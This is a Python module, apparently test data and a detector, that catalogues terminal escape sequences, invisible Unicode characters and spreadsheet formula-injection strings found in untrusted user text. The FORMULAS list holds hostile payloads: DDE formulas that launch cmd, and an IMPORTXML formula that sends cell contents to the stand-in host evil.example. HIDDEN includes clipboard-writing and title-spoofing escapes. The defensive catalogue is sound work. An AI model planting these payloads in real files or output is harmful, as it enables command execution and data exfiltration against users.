"""Words that strangers put into titles, names, answers and messages: what a terminal obeys, what no eye sees, what a sheet calculates."""

import re
import unicodedata

HIDDEN = {
    "bell": "甲\x07乙",
    "backspace over what stands before": "甲\x08\x08\x08乙",
    "carriage return over the line": "甲\r乙",
    "colour of a terminal": "甲\x1b[31m乙\x1b[0m",
    "screen wiped": "甲\x1b[2J\x1b[H乙",
    "title of the window": "甲\x1b]0;PWN\x07乙",
    "link of a terminal": "甲\x1b]8;;http://evil.example\x1b\\乙\x1b]8;;\x1b\\",
    "clipboard of a terminal": "甲\x1b]52;c;cHdu\x07乙",
    "answer of a terminal asked for": "甲\x1b[c\x1b[6n乙",
    "device control": "甲\x1bP1$r\x1b\\乙",
    "C1 sequence": "甲\x9b31m乙",
    "C1 title": "甲\x9d0;PWN\x9c乙",
    "shift out": "甲\x0e乙\x0f",
    "delete": "甲\x7f乙",
    "next line": "甲\x85乙",
    "form feed": "甲\x0c乙",
    "group separators": "甲\x1c\x1d\x1e\x1f乙",
    "direction turned": "甲\u202e乙\u202c",
    "direction embedded": "甲\u202b乙\u202a",
    "direction isolated": "甲\u2066乙\u2067\u2068\u2069",
    "marks of direction": "甲\u200e\u200f\u061c乙",
    "no width": "甲\u200b乙",
    "joiners": "甲\u200c\u200d\u2060乙",
    "byte order mark inside": "甲\ufeff乙",
    "soft hyphen": "甲\u00ad乙",
    "grapheme joiner": "甲\u034f乙",
    "fillers of Hangul": "甲\u115f\u1160\u3164\uffa0乙",
    "vowels of Khmer that nobody sees": "甲\u17b4\u17b5乙",
    "separators of Mongolian": "甲\u180e\u180b乙",
    "separators of lines": "甲\u2028乙\u2029",
    "notes between lines": "甲\ufff9乙\ufffa丙\ufffb",
    "invisible operators": "甲\u2061\u2062\u2063\u2064乙",
    "tags": "甲\U000e0041\U000e0042乙",
    "shorthand controls": "甲\U0001bca0乙",
    "controls of music": "甲\U0001d173乙",
}
"""By what each does. Each also stands between two letters, so that a report which drops it shows two letters that are not one word."""

_SEEN = {"\t", "\n"}
_IGNORED = re.compile(
    "[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\uffa0"
    "\ufff0-\ufffb\U0001bca0-\U0001bca3\U0001d173-\U0001d17a\U000e0000-\U000e00ff]"
)


def hidden_in(text: str) -> list[str]:
    """Return what a text holds that a terminal obeys or no eye sees."""
    controls = {sign for sign in text if unicodedata.category(sign) in {"Cc", "Cs"} and sign not in _SEEN}
    return sorted(f"U+{ord(sign):04X}" for sign in controls | set(_IGNORED.findall(text)))


FORMULAS = [
    "=HYPERLINK(\"http://evil.example\",\"甲\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=DDE(\"cmd\";\"/C calc\")",
    "%0A=1+1", "\u200b=1+1", "\ufeff=1+1", "\u3000=1+1", "\xa0=1+1", "\"\n=1+1", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
]  # fmt: skip
